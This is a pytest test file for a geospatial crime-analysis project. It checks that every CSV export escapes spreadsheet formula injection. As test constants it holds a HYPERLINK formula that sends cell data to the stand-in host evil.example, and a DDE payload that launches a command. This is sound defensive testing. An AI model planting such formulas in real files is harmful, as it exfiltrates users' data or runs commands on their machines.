"""CSV formula injection (issue 20, finding 6): every CSV a person may open escapes formula-like text."""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest
from shapely.geometry import Point

from geo.io.export import label_tables, write_csv, write_frame
from geo.io.spreadsheet import spreadsheet_safe, spreadsheet_safe_frame

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"klicka")'
DDE = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        ("+46 70 123 45 67", "'+46 70 123 45 67"),
        ("-x", "'-x"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-12.5", "-12.5"),
        ("-12,5", "-12,5"),
        ("+3", "+3"),
        ("-1e-3", "-1e-3"),
        ("Storgatan 3", "Storgatan 3"),
        ("", ""),
        (-3, -3),
        (None, None),
    ],
)
def test_spreadsheet_safe(value: object, expected: object) -> None:
    assert spreadsheet_safe(value) == expected


def test_frame_keeps_numbers_and_dtypes() -> None:
    frame = pd.DataFrame(
        {
            "n": [-1, 2],
            "x": [-1.5, 2.0],
            "s": pd.array([HYPERLINK, "ok"], dtype="string"),
            "c": pd.Categorical([DDE, "ok"]),
            "o": ["@x", None],
        }
    )
    out = spreadsheet_safe_frame(frame)
    assert out["n"].tolist() == [-1, 2] and out["x"].tolist() == [-1.5, 2.0]
    assert out["s"].tolist() == ["'" + HYPERLINK, "ok"] and out["c"].tolist() == ["'" + DDE, "ok"]
    assert out["o"].tolist()[0] == "'@x" and out["o"].isna().tolist()[1]
    assert frame["s"].tolist()[0] == HYPERLINK  # the caller's frame is untouched


def _cells(path: Path) -> list[str]:
    return pd.read_csv(path, dtype=str, keep_default_na=False).to_numpy().ravel().tolist()


def test_every_writer_escapes(tmp_path: Path) -> None:
    table = pd.DataFrame({"place": [HYPERLINK, "Storgatan"], "visits": [-2, 3]})
    write_csv(table, tmp_path / "patrol_plan.csv")
    assert "'" + HYPERLINK in _cells(tmp_path / "patrol_plan.csv")
    assert "-2" in _cells(tmp_path / "patrol_plan.csv")
    points = gpd.GeoDataFrame({"street": [DDE]}, geometry=[Point(14.04, 57.186)], crs="EPSG:4326")
    write_frame(points, tmp_path / "dark_places.csv")
    assert "'" + DDE in _cells(tmp_path / "dark_places.csv")
    raw = tmp_path / "raw.csv"
    raw.write_text('a\n"' + HYPERLINK.replace('"', '""') + '"\n', encoding="utf-8")
    label_tables([raw], column="data", value="@demo")
    assert _cells(raw) == ["'" + HYPERLINK, "'@demo"]


def test_demo_and_forecast_writers_escape(tmp_path: Path) -> None:
    from geo.io.outputs.demo import _csv_text

    text = _csv_text(["id", "category"], [["1", DDE]], sep=";")
    assert text.splitlines()[1] == "1;'" + DDE


def test_ingest_rejects_escape_formulas(tmp_path: Path) -> None:
    src = tmp_path / "in.csv"
    src.write_text(
        "id,occurred_at,category,lat,lon\n"
        f'A1,2025-01-10 21:30,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",57.186,14.04\n'
        f"A2,{DDE},stöld,57.186,14.04\n",
        encoding="utf-8",
    )
    r = subprocess.run(
        [sys.executable, "-m", "geo", "ingest", str(src), "--out", str(tmp_path / "out.parquet")],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        env={"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin", "HOME": str(tmp_path)},
        check=False,
    )
    assert r.returncode == 0, r.stderr + r.stdout
    rejects = pd.read_csv(tmp_path / "out.rejects.csv", dtype=str, keep_default_na=False)
    assert rejects["value"].tolist() == ["'" + DDE]


def test_no_csv_writer_bypasses_the_helper() -> None:
    """Every module that writes CSV itself (pandas ``to_csv`` or ``csv.writer``) uses the one helper."""
    offenders = []
    for path in (ROOT / "geo").rglob("*.py"):
        source = path.read_text(encoding="utf-8")
        if (
            re.search(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(", source)
            and "spreadsheet_safe" not in source
        ):
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
